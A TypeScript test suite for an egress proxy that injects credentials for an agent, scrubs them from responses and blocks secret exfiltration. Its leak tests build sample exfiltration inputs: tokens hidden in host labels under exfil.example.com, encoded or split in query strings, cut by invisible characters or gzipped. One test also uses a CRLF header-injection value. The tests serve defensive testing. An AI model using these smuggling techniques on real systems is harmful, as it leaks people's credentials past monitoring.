// Credential injection and leak refusal through the real proxy (research egress §11.6, §11.7):
// a client speaks TLS to the proxy (trusting the session CA), the proxy speaks TLS to a local
// upstream (trusting that upstream's own CA, as it would the public roots), and the upstream
// echoes what reached it. Every case asserts what the server saw, what the agent got back, and
// the audit event; no audit record ever holds the real value.

import assert from 'node:assert/strict';
import {
  request as httpRequest,
  createServer as createHttpServer,
  type IncomingMessage,
  type ServerResponse,
} from 'node:http';
import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https';
import { connect, type AddressInfo, type Socket } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { brotliCompressSync, crc32, deflateSync, gunzipSync, gzipSync } from 'node:zlib';
import { after, before, describe, it } from 'node:test';
import type { AuditRecord } from '@perimeter/audit';
import { createEngine, loadPolicies } from '@perimeter/policy';
import { createSessionCa } from '../src/ca.js';
import { createCredentialGuard, makePlaceholder, type CredentialSlot } from '../src/credentials.js';
import { createEgressProxy } from '../src/proxy.js';

const PUB1 = '93.184.216.34';
const SECRET = 'gho_realSecretValue0123456789abcdefXYZ';
const POLICY = `apiVersion: perimeter/v1
kind: Policy
metadata: { name: p, layer: org }
network:
  allow:
    - { id: api, hosts: [api.example.com], ports: [443, 80] }
    - { id: other, hosts: [other.example.com], methods: [GET, POST, PUT], ports: [443, 80] }
    - { id: opaque, hosts: [opaque.example.com], ports: [443] }
  deny:
    - { id: no-admin, hosts: [api.example.com], paths: ["/admin/**"] }
credentials:
  - id: github
    secret: gh
    env: GH_TOKEN
    inject: { hosts: [api.example.com] }
  - id: proxy-sets
    secret: ps
    inject: { hosts: [other.example.com], header: X-Api-Key, format: "{secret}" }
`;

const upstreamCa = createSessionCa({ commonName: 'Test public root' });
const wrongCa = createSessionCa({ commonName: 'Not trusted' });
const sessionCa = createSessionCa();
const records: AuditRecord[] = [];
/** Every record of every case: fresh() empties `records`, never this. */
const everything: AuditRecord[] = [];
let seen: { host: string; headers: IncomingMessage['headers']; body: string; url: string }[] = [];
let upstream: HttpsServer;
let badUpstream: HttpsServer;
let encodingUpstream: HttpsServer;
let plain: ReturnType<typeof createHttpServer>;
let proxy: ReturnType<typeof createEgressProxy>;
let proxyPort = 0;
let slots: CredentialSlot[];

function echo(req: IncomingMessage, res: ServerResponse): void {
  const chunks: Buffer[] = [];
  req.on('data', (c: Buffer) => chunks.push(c));
  req.on('end', () => {
    const body = Buffer.concat(chunks).toString();
    seen.push({ host: req.headers.host ?? '', headers: req.headers, body, url: req.url ?? '' });
    const auth = req.headers.authorization ?? '';
    if (req.url === '/moved') {
      res.writeHead(307, { location: 'https://other.example.com/landing' });
      res.end();
      return;
    }
    res.writeHead(200, { 'content-type': 'application/json', 'x-echo-authorization': auth });
    res.end(
      JSON.stringify({
        authorization: auth,
        b64: Buffer.from(auth).toString('base64'),
        ...(req.url === '/renderings' ? renderingsOfToken(auth) : {}),
        apiKey: req.headers['x-api-key'] ?? '',
      }),
    );
  });
}

/** The bearer token of `auth` written as pages and code write bytes: references, byte lists, %u. */
function renderingsOfToken(auth: string): Record<string, string> {
  const token = auth.replace(/^Bearer /, '');
  const bytes = [...Buffer.from(token)];
  return {
    references: [...token].map((c) => `&#${c.codePointAt(0)};`).join(''),
    hexReferences: [...token].map((c) => `&#x${(c.codePointAt(0) ?? 0).toString(16)};`).join(''),
    byteList: `[${bytes.join(', ')}]`,
    hexList: `{ ${bytes.map((b) => `0x${b.toString(16).padStart(2, '0')}`).join(', ')} }`,
    percentU: [...token].map((c) => `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  };
}

/**
 * A server that compresses whatever the client accepts: the echo of Authorization in the coding
 * X-Respond-Encoding names (gzip by default; `br, gzip` is brotli, then gzip; `compress` is sent
 * as it is, uncompressed, under that name).
 */
function compressingEcho(req: IncomingMessage, res: ServerResponse): void {
  req.resume();
  req.on('end', () => {
    const auth = req.headers.authorization ?? '';
    seen.push({ host: req.headers.host ?? '', headers: req.headers, body: '', url: req.url ?? '' });
    const coding = (req.headers['x-respond-encoding'] as string | undefined) ?? 'gzip';
    let body = Buffer.from(JSON.stringify({ authorization: auth }));
    for (const c of coding.split(',').map((x) => x.trim())) {
      if (c === 'gzip') body = gzipSync(body);
      if (c === 'deflate') body = deflateSync(body);
      if (c === 'br') body = brotliCompressSync(body);
    }
    res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': coding });
    res.end(body);
  });
}

before(async () => {
  const sni = (ca: typeof upstreamCa) => (name: string, done: (e: Error | null, c?: unknown) => void) =>
    done(null, ca.contextFor(name));
  upstream = createHttpsServer({ SNICallback: sni(upstreamCa) as never }, echo);
  badUpstream = createHttpsServer({ SNICallback: sni(wrongCa) as never }, echo);
  encodingUpstream = createHttpsServer({ SNICallback: sni(upstreamCa) as never }, compressingEcho);
  plain = createHttpServer(echo);
  await Promise.all(
    [upstream, badUpstream, encodingUpstream, plain].map(
      (s) => new Promise<void>((r) => s.listen(0, '127.0.0.1', r)),
    ),
  );
  const engine = createEngine(
    loadPolicies([{ file: 'p.yaml', text: POLICY }]).policies.map((p) => p.policy),
    { context: { home: '/h', workspace: '/w' } },
  );
  slots = [
    {
      id: 'github',
      secret: 'gh',
      value: SECRET,
      placeholder: makePlaceholder(),
      isHeldByAgent: true,
      inject: { header: 'authorization', format: 'Bearer {secret}', anywhere: false },
    },
    {
      id: 'proxy-sets',
      secret: 'ps',
      value: 'ps-real-value-7f3a9c',
      placeholder: makePlaceholder(),
      isHeldByAgent: false,
      inject: { header: 'x-api-key', format: '{secret}', anywhere: false },
    },
  ];
  const audit = (r: AuditRecord): void => {
    records.push(r);
    everything.push(r);
  };
  proxy = createEgressProxy({
    engine,
    resolver: () => Promise.resolve([PUB1]),
    dial: (_address, port) => {
      const target = port === 80 ? plain : dialTarget;
      return connect({ host: '127.0.0.1', port: (target.address() as AddressInfo).port });
    },
    audit,
    credentials: {
      guard: createCredentialGuard({ engine, slots, audit }),
      ca: sessionCa,
      upstreamTls: { ca: upstreamCa.certPem },
    },
  });
  await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
  proxyPort = (proxy.address() as AddressInfo).port;
});
let dialTarget: HttpsServer | ReturnType<typeof createHttpServer>;

after(() => {
  for (const s of [proxy, upstream, badUpstream, encodingUpstream, plain]) s.close();
});

interface Echo {
  authorization: string;
  b64: string;
  apiKey: string;
}

interface Reply {
  status: number;
  headers: IncomingMessage['headers'];
  body: string;
  /** The body's bytes as they arrived (over CONNECT). */
  raw?: Buffer;
}

/** One HTTPS request through a CONNECT tunnel, trusting the session CA as the sandbox does. */
function viaConnect(
  host: string,
  options: {
    path?: string;
    method?: string;
    headers?: Record<string, string>;
    body?: string;
    sni?: string;
  } = {},
): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const socket: Socket = connect({ host: '127.0.0.1', port: proxyPort });
    socket.write(`CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\n\r\n`);
    socket.once('data', (reply) => {
      if (!/^HTTP\/1\.1 200/.test(reply.toString())) {
        resolve({ status: Number(reply.toString().split(' ')[1]), headers: {}, body: reply.toString() });
        return;
      }
      const tls = tlsConnect({ socket, servername: options.sni ?? host, ca: sessionCa.certPem });
      tls.once('error', reject);
      const req = httpRequest(
        {
          method: options.method ?? 'GET',
          path: options.path ?? '/',
          headers: { host, ...(options.headers ?? {}) },
          createConnection: () => tls,
        },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => {
            resolve({
              status: res.statusCode ?? 0,
              headers: res.headers,
              body: Buffer.concat(chunks).toString(),
              raw: Buffer.concat(chunks),
            });
            tls.destroy();
          });
        },
      );
      req.once('error', reject);
      req.end(options.body);
    });
  });
}

/** One plain-HTTP request, absolute-form, through the proxy. */
function viaForward(url: string, headers: Record<string, string> = {}, body?: Buffer): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const method = body === undefined ? 'GET' : 'POST';
    const req = httpRequest({ host: '127.0.0.1', port: proxyPort, path: url, method, headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({
          status: res.statusCode ?? 0,
          headers: res.headers,
          body: Buffer.concat(chunks).toString(),
        }),
      );
    });
    req.once('error', reject);
    req.end(body);
  });
}

/** A GitHub token of the 2021 format with a right CRC32 checksum (base62, 0-9A-Za-z). */
function githubToken(): string {
  const alphabet = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
  let body = '';
  for (let i = 0; i < 30; i++) body += alphabet[(i * 7 + 13) % 62];
  let n = crc32(body);
  let sum = '';
  do {
    sum = (alphabet[n % 62] ?? '') + sum;
    n = Math.floor(n / 62);
  } while (n > 0);
  return `ghp_${body}${sum.padStart(6, '0')}`;
}

function placeholder(id: string): string {
  return slots.find((s) => s.id === id)?.placeholder ?? '';
}

function fresh(): void {
  seen = [];
  records.length = 0;
  dialTarget = upstream;
}

describe('credential injection', () => {
  it('egress-cred-01: the bound host receives the real value; the agent and the audit see only the placeholder', async () => {
    fresh();
    const p = placeholder('github');
    const reply = await viaConnect('api.example.com', { headers: { authorization: `Bearer ${p}` } });
    assert.equal(reply.status, 200);
    assert.equal(seen[0]?.headers.authorization, `Bearer ${SECRET}`);
    assert.equal(
      (JSON.parse(reply.body) as Echo).authorization,
      `Bearer ${p}`,
      'the echoed value is scrubbed',
    );
    assert.equal(reply.headers['x-echo-authorization'], `Bearer ${p}`);
    const use = records.find((r) => r.type === 'credential.use');
    assert.equal(use?.outcome?.credential, 'github');
    assert.equal(use?.outcome?.locations, 'header:authorization');
    assert.equal(use?.decision, 'allow');
  });

  it('egress-cred-04: Basic auth (git over HTTPS) is decoded, substituted and re-encoded', async () => {
    fresh();
    const p = placeholder('github');
    const basic = Buffer.from(`x-access-token:${p}`).toString('base64');
    const reply = await viaConnect('api.example.com', { headers: { authorization: `Basic ${basic}` } });
    assert.equal(reply.status, 200);
    assert.equal(
      seen[0]?.headers.authorization,
      `Basic ${Buffer.from(`x-access-token:${SECRET}`).toString('base64')}`,
    );
    assert.equal(records.find((r) => r.type === 'credential.use')?.outcome?.locations, 'basic:password');
  });

  it('egress-cred-05/06: a placeholder in User-Agent or the body of a request to the bound host is not substituted', async () => {
    fresh();
    const p = placeholder('github');
    const reply = await viaConnect('api.example.com', {
      method: 'POST',
      headers: { 'user-agent': `agent ${p}`, 'content-type': 'application/json' },
      body: JSON.stringify({ note: p }),
    });
    assert.equal(reply.status, 200);
    assert.equal(seen[0]?.headers['user-agent'], `agent ${p}`);
    assert.equal((JSON.parse(seen[0]?.body ?? '{}') as { note?: string }).note, p);
  });

  it('egress-cred-07: the real value echoed back, raw or base64, reaches the agent as the placeholder', async () => {
    fresh();
    const p = placeholder('github');
    const reply = await viaConnect('api.example.com', { headers: { authorization: `Bearer ${p}` } });
    const body = JSON.parse(reply.body) as { b64: string };
    assert.ok(!Buffer.from(body.b64, 'base64').toString('latin1').includes(SECRET));
    assert.ok(!reply.body.includes(SECRET));
    assert.ok(!reply.body.includes(Buffer.from(SECRET).toString('base64')));
  });

  it('detect-32-7: the real value echoed as character references, a byte list or %u escapes reaches the agent as the placeholder', async () => {
    fresh();
    const p = placeholder('github');
    const reply = await viaConnect('api.example.com', {
      path: '/renderings',
      headers: { authorization: `Bearer ${p}` },
    });
    assert.equal(reply.status, 200);
    const body = JSON.parse(reply.body) as Record<string, string>;
    const sent = renderingsOfToken(`Bearer ${SECRET}`);
    const scrubbed = renderingsOfToken(`Bearer ${p}`);
    for (const form of Object.keys(sent)) {
      assert.ok(!reply.body.includes(sent[form] ?? '?'), `${form}: the real value does not come back`);
      assert.equal(body[form], scrubbed[form], `${form}: the placeholder's own rendering comes back`);
    }
  });

  it('a binding without env: the proxy sets the header itself, replacing one the agent sent', async () => {
    fresh();
    const reply = await viaConnect('other.example.com', { headers: { 'x-api-key': 'agent-chosen' } });
    assert.equal(reply.status, 200);
    assert.equal(seen[0]?.headers['x-api-key'], 'ps-real-value-7f3a9c');
    assert.equal((JSON.parse(reply.body) as Echo).apiKey, placeholder('proxy-sets'));
  });

  it('an answer compressed despite Accept-Encoding: identity is decoded and scrubbed, never passed on compressed', async () => {
    fresh();
    dialTarget = encodingUpstream;
    const p = placeholder('github');
    for (const coding of ['gzip', 'deflate', 'br', 'br, gzip']) {
      const reply = await viaConnect('api.example.com', {
        headers: { authorization: `Bearer ${p}`, 'x-respond-encoding': coding },
      });
      assert.equal(reply.status, 200, coding);
      assert.equal(seen.at(-1)?.headers.authorization, `Bearer ${SECRET}`, 'the server got the real value');
      assert.equal(reply.headers['content-encoding'], undefined, `${coding}: the agent gets it decoded`);
      assert.equal((JSON.parse(reply.body) as Echo).authorization, `Bearer ${p}`, `${coding}: scrubbed`);
      assert.ok(!(reply.raw ?? Buffer.alloc(0)).toString('latin1').includes(SECRET));
    }
  });

  it('an answer in a coding the proxy cannot decode is refused with 502, its body not passed on', async () => {
    fresh();
    dialTarget = encodingUpstream;
    const reply = await viaConnect('api.example.com', {
      headers: { authorization: `Bearer ${placeholder('github')}`, 'x-respond-encoding': 'compress' },
    });
    assert.equal(seen.length, 1, 'the request went out');
    assert.equal(reply.status, 502);
    assert.match(reply.headers['x-perimeter-reason'] as string, /cannot decode/);
    assert.ok(!reply.body.includes('authorization'), 'nothing of the answer reached the agent');
  });

  it('an answer to a request that carried no value passes as it came, compressed', async () => {
    fresh();
    dialTarget = encodingUpstream;
    const reply = await viaConnect('api.example.com', {
      path: '/plain',
      headers: { 'accept-encoding': 'gzip' },
    });
    assert.equal(reply.status, 200);
    assert.equal(reply.headers['content-encoding'], 'gzip');
    assert.deepEqual(JSON.parse(gunzipSync(reply.raw ?? Buffer.alloc(0)).toString()), { authorization: '' });
  });
});

describe('credential leaks', () => {
  it('egress-cred-02: the placeholder sent to an allowed host it is not bound to is refused and audited high', async () => {
    fresh();
    const reply = await viaConnect('other.example.com', {
      headers: { authorization: `Bearer ${placeholder('github')}` },
    });
    assert.equal(reply.status, 403);
    assert.match(reply.headers['x-perimeter-reason'] as string, /placeholder of credential "github"/);
    assert.equal(seen.length, 0, 'nothing reached the server');
    const alert = records.find((r) => r.type === 'credential.exfiltration');
    assert.equal(alert?.severity, 'high');
    assert.equal(alert?.outcome?.credential, 'github');
    assert.equal(alert?.outcome?.destination, 'other.example.com:443');
  });

  it('egress-cred-03: the placeholder over plain HTTP, even to the bound host, is refused', async () => {
    fresh();
    const reply = await viaForward('http://api.example.com/', {
      authorization: `Bearer ${placeholder('github')}`,
    });
    assert.equal(reply.status, 403);
    assert.match(reply.body, /only over HTTPS/);
    assert.equal(seen.length, 0);
  });

  it('egress-cred-10: the placeholder percent-encoded or base64 in a URL to another host is refused', async () => {
    fresh();
    const p = placeholder('github');
    const base64 = await viaConnect('other.example.com', {
      path: `/x?d=${Buffer.from(`token=${p}`).toString('base64')}`,
    });
    assert.equal(base64.status, 403);
    const percent = await viaForward(`http://other.example.com/x?d=${encodeURIComponent(`"${p}"`)}`);
    assert.equal(percent.status, 403);
    assert.equal(seen.length, 0);
  });

  it('the real value, sent anywhere, is refused as a critical leak', async () => {
    fresh();
    const reply = await viaConnect('api.example.com', { headers: { authorization: `Bearer ${SECRET}` } });
    assert.equal(reply.status, 403);
    assert.equal(seen.length, 0);
    assert.equal(records.find((r) => r.type === 'credential.leak')?.severity, 'critical');
  });

  it('redteam-34-1: a token or the real value cut by hidden characters in a request body is refused as the whole one is', async () => {
    const token = githubToken();
    // Written whole; cut by a zero-width space; cut by a word joiner and a tag character (an
    // invisible "A"). The body goes out as UTF-8, and the proxy reads its bytes as Latin-1.
    const spellings = (v: string): string[] => [
      v,
      `${v.slice(0, 10)}\u200B${v.slice(10)}`,
      `${v.slice(0, 6)}\u2060${v.slice(6, 20)}\u{E0041}${v.slice(20)}`,
    ];
    for (const [value, type] of [
      [token, 'network.secret'],
      [SECRET, 'credential.leak'],
    ] as const)
      for (const written of spellings(value)) {
        const reason =
          type === 'network.secret'
            ? /github secret \(github-token, ghp_/
            : written === value
              ? /real value of credential "github" \(as written\)/
              : /real value of credential "github" \(cut by hidden characters\)/;
        fresh();
        const reply = await viaConnect('other.example.com', {
          method: 'POST',
          path: '/notes',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ note: written }),
        });
        assert.equal(reply.status, 403, JSON.stringify(written));
        assert.match(reply.headers['x-perimeter-reason'] as string, reason);
        assert.equal(seen.length, 0, 'nothing reached the server');
        const alert = records.find((r) => r.type === type);
        assert.ok(alert, `${type} for ${JSON.stringify(written)}`);
        if (type === 'credential.leak')
          assert.equal(alert.outcome?.encoding, written === value ? 'raw' : 'hidden');
      }
    // The joiners and selectors of emoji are no secret: such a body goes.
    fresh();
    const emoji = await viaConnect('other.example.com', {
      method: 'POST',
      path: '/notes',
      body: JSON.stringify({ note: 'shipped \u{1F469}\u200D\u{1F4BB} \u2764\uFE0F' }),
    });
    assert.equal(emoji.status, 200);
  });

  it('egress-cred-13: a Host header naming another host on the bound connection is refused, nothing substituted', async () => {
    fresh();
    const socketReply = await viaConnect('api.example.com', {
      headers: { host: 'other.example.com', authorization: `Bearer ${placeholder('github')}` },
    });
    assert.equal(socketReply.status, 421);
    assert.equal(seen.length, 0);
    assert.ok(records.some((r) => r.type === 'network.fronting-refused'));
  });

  it('egress-dlp-01: a GitHub token with a valid checksum in the query to an inspected host is refused', async () => {
    fresh();
    const reply = await viaConnect('other.example.com', { path: `/collect?t=${githubToken()}` });
    assert.equal(reply.status, 403);
    assert.match(reply.headers['x-perimeter-reason'] as string, /github/i);
    assert.equal(seen.length, 0);
    assert.equal(records.find((r) => r.type === 'network.secret')?.severity, 'high');
  });

  it('egress-dlp-05: a token cut across query parameters is refused', async () => {
    fresh();
    const token = githubToken();
    const reply = await viaConnect('other.example.com', {
      path: `/c?a=${token.slice(0, 12)}&b=${token.slice(12, 26)}&c=${token.slice(26)}`,
    });
    assert.equal(reply.status, 403);
    assert.equal(seen.length, 0);
  });

  it('egress-dlp-06: a gzip request body is decoded and checked; one that cannot be decoded is refused', async () => {
    fresh();
    const hidden = gzipSync(Buffer.from(JSON.stringify({ note: githubToken() })));
    const gz = await viaForward('http://other.example.com/upload', { 'content-encoding': 'gzip' }, hidden);
    assert.equal(gz.status, 403);
    assert.match(gz.headers['x-perimeter-reason'] as string, /github/i);
    const broken = await viaForward(
      'http://other.example.com/upload',
      { 'content-encoding': 'gzip' },
      Buffer.from('not gzip at all'),
    );
    assert.equal(broken.status, 415);
    const clean = await viaForward(
      'http://other.example.com/upload',
      { 'content-encoding': 'gzip' },
      gzipSync(Buffer.from('{"note":"nothing secret"}')),
    );
    assert.equal(clean.status, 200);
    assert.equal(seen.length, 1, 'only the clean body reached the server');
    assert.equal(seen[0]?.headers['content-encoding'], 'gzip', 'an untouched body goes out as it came');
  });

  it('egress-dlp-03: a token spelled across the labels of a host name is refused before any lookup', async () => {
    fresh();
    const token = githubToken();
    const host = `${token.slice(0, 4).replace('_', '-')}${token.slice(4, 20)}.${token.slice(20)}.exfil.example.com`;
    const reply = await viaConnect(host);
    assert.equal(reply.status, 403);
    assert.ok(records.some((r) => r.type === 'network.secret' && r.severity === 'high'));
    assert.ok(records.some((r) => r.type === 'network.connect' && r.decision === 'deny'));
  });

  it('the placeholder as a host label is refused before any lookup', async () => {
    fresh();
    const reply = await viaConnect(`${placeholder('github').toLowerCase()}.example.com`);
    assert.equal(reply.status, 403);
    assert.ok(records.some((r) => r.type === 'credential.exfiltration'));
  });

  it('egress-dlp-03: a host name refused for what it carries is audited with that part as ***, never whole', async () => {
    fresh();
    const token = githubToken();
    const p = placeholder('github').toLowerCase();
    const hosts = [
      `${token.slice(0, 4).replace('_', '-')}${token.slice(4, 20)}.${token.slice(20)}.exfil.example.com`,
      `${SECRET}.example.com`,
      `x.${p.slice(0, 20)}.${p.slice(20)}.example.com`,
    ];
    for (const host of hosts) assert.equal((await viaConnect(host)).status, 403, host);
    const text = JSON.stringify(records);
    for (const form of [
      token.slice(4, 20),
      token.slice(20),
      SECRET,
      SECRET.toLowerCase(),
      p.slice(0, 20),
      p.slice(20),
    ])
      assert.ok(!text.includes(form), `no audit record holds ${form}`);
    assert.deepEqual(
      records.filter((r) => r.type === 'network.connect').map((r) => [r.decision, r.request?.resource]),
      [
        ['deny', '***.exfil.example.com:443'],
        ['deny', '***.example.com:443'],
        ['deny', 'x.***.example.com:443'],
      ],
    );
    assert.deepEqual(
      records
        .filter((r) => r.outcome?.destination !== undefined)
        .map((r) => [r.type, r.outcome?.destination]),
      [
        ['network.secret', '***.exfil.example.com:443'],
        ['credential.leak', '***.example.com:443'],
        ['credential.exfiltration', 'x.***.example.com:443'],
      ],
    );
  });

  it('a real value beyond ASCII, sent raw in a request body or header, is refused like an ASCII one', () => {
    const engine = createEngine(
      loadPolicies([{ file: 'p.yaml', text: POLICY }]).policies.map((p) => p.policy),
      { context: { home: '/h', workspace: '/w' } },
    );
    const to = { host: 'other.example.com', port: 443, isVerifiedTls: true };
    for (const value of ['ascii-secret-0123456789-x', 'pässwörd-0123456789-ß']) {
      const slot = { ...(slots[0] as CredentialSlot), value };
      const audited: AuditRecord[] = [];
      const guard = createCredentialGuard({ engine, slots: [slot], audit: (r) => audited.push(r) });
      // As the proxy reads a body: its bytes, here UTF-8.
      const inBody = guard.inspect(
        { method: 'POST', target: '/notes', headers: [['Content-Type', 'application/json']] },
        Buffer.from(JSON.stringify({ note: value }), 'utf8'),
        to,
      );
      assert.equal(inBody.refusal?.status, 403, `${value} in a body`);
      // As Node hands a header value over: one latin1 character per byte.
      const inHeader = guard.inspect(
        { method: 'GET', target: '/', headers: [['X-Note', Buffer.from(value, 'utf8').toString('latin1')]] },
        Buffer.alloc(0),
        to,
      );
      assert.equal(inHeader.refusal?.status, 403, `${value} in a header`);
      assert.deepEqual(
        audited.map((r) => [r.type, r.severity, r.outcome?.encoding]),
        [
          ['credential.leak', 'critical', 'raw'],
          ['credential.leak', 'critical', 'raw'],
        ],
      );
    }
  });

  it('a stored value with a line break is never put in a header', () => {
    const engine = createEngine(
      loadPolicies([{ file: 'p.yaml', text: POLICY }]).policies.map((p) => p.policy),
      { context: { home: '/h', workspace: '/w' } },
    );
    const slot = { ...(slots[0] as CredentialSlot), value: 'line one\r\nX-Injected: yes' };
    const guard = createCredentialGuard({ engine, slots: [slot] });
    const result = guard.inspect(
      { method: 'GET', target: '/', headers: [['Authorization', `Bearer ${slot.placeholder}`]] },
      Buffer.alloc(0),
      { host: 'api.example.com', port: 443, isVerifiedTls: true },
    );
    assert.equal(result.refusal?.status, 403);
    assert.match(result.refusal?.reason ?? '', /line break/);
  });

  it('egress-cred-11: after a redirect from the bound host to another host, the re-sent placeholder is refused', async () => {
    fresh();
    const p = placeholder('github');
    const first = await viaConnect('api.example.com', {
      path: '/moved',
      headers: { authorization: `Bearer ${p}` },
    });
    assert.equal(first.status, 307);
    const location = new URL(first.headers.location ?? '');
    // A client that follows the redirect and keeps the header (curl --location-trusted, some SDKs).
    const second = await viaConnect(location.hostname, {
      path: location.pathname,
      headers: { authorization: `Bearer ${p}` },
    });
    assert.equal(second.status, 403);
    assert.deepEqual(
      seen.map((r) => [r.host, r.headers.authorization]),
      [['api.example.com', `Bearer ${SECRET}`]],
      'only the bound host received the credential',
    );
  });

  it('network.secrets redact: a secret in a request is replaced by its fingerprint; one cut across parameters is refused', () => {
    const engine = createEngine(
      loadPolicies([{ file: 'p.yaml', text: POLICY }]).policies.map((p) => p.policy),
      { context: { home: '/h', workspace: '/w' } },
    );
    const guard = createCredentialGuard({ engine, slots: [], dlp: 'redact' });
    const token = githubToken();
    const to = { host: 'other.example.com', port: 443, isVerifiedTls: true };
    const redacted = guard.inspect(
      { method: 'POST', target: '/notes', headers: [['Content-Type', 'application/json']] },
      Buffer.from(JSON.stringify({ note: token })),
      to,
    );
    assert.equal(redacted.refusal, undefined);
    const sent = redacted.body.toString();
    assert.ok(!sent.includes(token));
    assert.match(sent, /\[REDACTED:[^\]]+\]/);
    const split = guard.inspect(
      {
        method: 'GET',
        target: `/c?a=${token.slice(0, 12)}&b=${token.slice(12, 26)}&c=${token.slice(26)}`,
        headers: [],
      },
      Buffer.alloc(0),
      to,
    );
    assert.equal(split.refusal?.status, 403);
  });

  it('egress-dlp-07: a secret encoded together with a placeholder in one segment is still refused', () => {
    const engine = createEngine(
      loadPolicies([{ file: 'p.yaml', text: POLICY }]).policies.map((p) => p.policy),
      { context: { home: '/h', workspace: '/w' } },
    );
    const audited: AuditRecord[] = [];
    const guard = createCredentialGuard({ engine, slots, audit: (r) => audited.push(r) });
    const p = placeholder('github');
    const to = { host: 'api.example.com', port: 443, isVerifiedTls: true };
    const post = (inner: string) =>
      guard.inspect(
        { method: 'POST', target: '/notes', headers: [['Content-Type', 'application/json']] },
        Buffer.from(JSON.stringify({ blob: Buffer.from(inner).toString('base64') })),
        to,
      );
    // The placeholder alone, encoded: ours, not a finding (the request goes, substituted or not).
    assert.equal(post(`{"token":"${p}"}`).refusal, undefined);
    assert.deepEqual(
      audited.filter((r) => r.type === 'network.secret'),
      [],
      'the placeholder is no finding, not even a low one',
    );
    // Another token beside it in the same base64 segment: the segment is not the placeholder's.
    const both = post(`{"token":"${p}","note":"${githubToken()}"}`);
    assert.equal(both.refusal?.status, 403);
    assert.match(both.refusal?.reason ?? '', /secret \(github-token,/);
  });

  it('the response scrubber catches a value split across chunks, non-ASCII included', async () => {
    const engine = createEngine(
      loadPolicies([{ file: 'p.yaml', text: POLICY }]).policies.map((p) => p.policy),
      { context: { home: '/h', workspace: '/w' } },
    );
    const slot = { ...(slots[0] as CredentialSlot), value: 'pässwörd-0123456789-ß' };
    const stream = createCredentialGuard({ engine, slots: [slot] }).scrubber([slot]);
    const bytes = Buffer.from(`before ${slot.value} after`, 'utf8');
    const out: Buffer[] = [];
    stream.on('data', (c: Buffer) => out.push(c));
    const ended = new Promise((ok) => stream.on('end', ok));
    stream.write(bytes.subarray(0, 12));
    stream.end(bytes.subarray(12));
    await ended;
    assert.equal(Buffer.concat(out).toString('utf8'), `before ${slot.placeholder} after`);
  });
});

describe('inspected HTTPS', () => {
  it('a path rule applies inside an inspected connection', async () => {
    fresh();
    const reply = await viaConnect('api.example.com', { path: '/admin/users' });
    assert.equal(reply.status, 403);
    assert.equal(reply.headers['x-perimeter-reason'] !== undefined, true);
    assert.equal(seen.length, 0);
    assert.ok(records.some((r) => r.type === 'network.get' && r.decision === 'deny'));
  });

  it('a server name other than the CONNECT host ends the handshake', async () => {
    fresh();
    await assert.rejects(viaConnect('api.example.com', { sni: 'other.example.com' }));
    assert.equal(seen.length, 0);
    assert.ok(records.some((r) => r.type === 'network.fronting-refused'));
  });

  it('an upstream whose certificate does not verify is refused with the reason', async () => {
    fresh();
    dialTarget = badUpstream;
    const reply = await viaConnect('api.example.com', {
      headers: { authorization: `Bearer ${placeholder('github')}` },
    });
    assert.equal(reply.status, 502);
    assert.match(reply.headers['x-perimeter-reason'] as string, /certificate/);
    assert.equal(seen.length, 0);
  });

  it('a host with no binding and no HTTP rule stays an opaque tunnel (the session CA is not used)', async () => {
    fresh();
    await assert.rejects(viaConnect('opaque.example.com'), /self.signed|unable to verify|certificate/i);
  });

  it('a WebSocket upgrade is refused (501) with the reason; the audit keeps its target without the query', async () => {
    fresh();
    const reply = await viaConnect('api.example.com', {
      path: '/socket?access_token=query-secret-0123456789',
      headers: {
        connection: 'Upgrade',
        upgrade: 'websocket',
        'sec-websocket-version': '13',
        'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
      },
    });
    assert.equal(reply.status, 501);
    assert.equal(seen.length, 0);
    assert.equal(records.find((r) => r.type === 'network.refused')?.outcome?.target, '/socket?***');
    assert.ok(!JSON.stringify(records).includes('query-secret-0123456789'));
    assert.match(reply.headers['x-perimeter-reason'] as string, /WebSocket/);
    assert.match(reply.body, /WebSocket/, 'the reason is in the body too');
  });
});

describe('the audit of every case', () => {
  it('egress-cred-08: no audit record of any case above holds the real value in any rendering', () => {
    // Every case's records (fresh() empties `records`, never `everything`), the leaks included.
    assert.ok(
      everything.some(
        (r) => r.type === 'credential.leak' && r.outcome?.destination === 'api.example.com:443',
      ),
      'the real value sent in a header was recorded',
    );
    assert.ok(
      everything.some(
        (r) => r.type === 'credential.leak' && r.outcome?.destination === '***.example.com:443',
      ),
    );
    assert.ok(everything.some((r) => r.type === 'credential.use'));
    const text = JSON.stringify(everything);
    const forms = [
      SECRET,
      SECRET.toLowerCase(),
      Buffer.from(SECRET).toString('base64'),
      Buffer.from(SECRET).toString('hex'),
    ];
    for (const form of forms) assert.ok(!text.includes(form), form);
  });
});
